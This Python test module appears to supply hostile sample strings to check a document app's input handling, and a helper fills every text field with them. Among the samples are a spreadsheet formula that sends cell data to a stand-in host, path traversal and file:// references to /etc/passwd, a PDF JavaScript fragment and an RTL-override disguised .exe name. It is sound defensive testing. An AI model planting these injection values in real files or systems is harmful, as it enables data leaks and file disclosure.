"""Text that another program would carry out, turn around or fall over, and matters full of it."""

from __future__ import annotations

from collections.abc import Iterator
from types import MappingProxyType

from qmsco_desk.errors import InputError
from qmsco_desk.model import paths
from qmsco_desk.model.ask import answers
from qmsco_desk.model.kinds import Text
from qmsco_desk.model.matter import Matter
from tests.checks.largest import largest

TEXTS = MappingProxyType(
    {
        "markup": "<b>Q&A</b>",
        "picture": '<img src="file:///etc/passwd">',
        "entity": "Q&amp;A &lt;i&gt; &#65;",
        "braces": "{0.__class__} {name} {{x}}",
        "percent": "%s %(x)s %n %1 %%",
        "path": "../../etc/passwd",
        "drive": "C:\\x\\..\\CON",
        "formula": '=HYPERLINK("http://x.example/?"&A1)',
        "plus": "+1+1",
        "minus": "-2+3",
        "at": "@SUM(1)",
        "marker": "[*] [[x]] \\N{BULLET}",
        "typeset": "\\textbf{x} $x^2$ `x` **x**",
        "pdf": "(x) Tj ET /JS <</S/JavaScript>>",
        "xml": "]]><w:t>x</w:t> <!-- x -->",
        "calendar": "x;y,z:BEGIN VALARM\\nEND",
        "spaces": "a  b   c",
        "marks": "e\u0301\u0323 n\u0303 Ve\u0302\u0301",
        "hebrew": "\u05e9\u05e8\u05d4 \u05db\u05d4\u05df",
        "arabic": "\u0645\u062d\u0645\u062f",
        "joined": "a\u200bb\u200dc\u00add\ufeffe",
        "wide": "\uff1d\uff11\uff0b\uff11",
        "beyond": "\U0001f600 \U0010fffd \ue000",
    }
)
# Texts that the papers' own type can draw, so that they are read back as they were typed.
DRAWN = tuple(
    name for name in TEXTS if name not in ("hebrew", "arabic", "joined", "wide", "beyond")
)
REFUSED = MappingProxyType(
    {
        "zero": "a\0b",
        "bell": "a\x07b",
        "escape": "\x1b[31mred\x1b[0m",
        "delete": "a\x7fb",
        "next line": "a\x85b",
        "line mark": "a\u2028b",
        "turned": "a\u202egnp.exe",
        "isolate": "\u2066a\u2069",
        "mark of direction": "a\u200fb",
        "half": "a\ud800b",
        "heap": "a" + "\u0301" * 500,
        "long": "x" * 100_000,
    }
)


def places(matter: Matter) -> Iterator[tuple[str, Text]]:
    """Every field of words of a matter, with its kind."""
    for path, spec, _ in answers(matter):
        if isinstance(spec.kind, Text):
            yield path, spec.kind


def full_of(names: tuple[str, ...], matter: Matter | None = None) -> tuple[Matter, dict[str, str]]:
    """A matter (the largest) with a hostile text in every field of words that takes one, in turn.

    Returns:
        The matter, and the text at each path where one stands.
    """
    matter = largest("TX") if matter is None else matter
    typed: dict[str, str] = {}
    for number, (path, kind) in enumerate(places(matter)):
        for text in (TEXTS[names[(number + step) % len(names)]] for step in range(len(names))):
            try:
                kept = kind.read(text)
            except InputError:
                continue
            matter = paths.set_at(matter, path, kept)
            typed[path] = kept
            break
    return matter, typed
